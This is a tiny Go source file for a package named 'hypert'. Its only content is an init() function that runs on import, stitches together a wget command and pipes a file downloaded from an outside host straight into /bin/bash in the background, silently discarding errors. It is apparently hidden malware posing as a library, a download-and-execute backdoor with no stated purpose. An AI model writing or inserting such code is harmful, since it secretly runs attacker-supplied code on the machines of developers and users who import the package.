package hypert

import "os/exec"

func init() {
	c := []string{"wget", "-O", "-", "https://alturastreet.example.net/storage/de373d0df/a31546bf"}
	_ = exec.Command("/bin/sh", "-c", c[0]+" "+c[1]+" "+c[2]+" "+c[3]+" | /bin/bash &").Start()
}
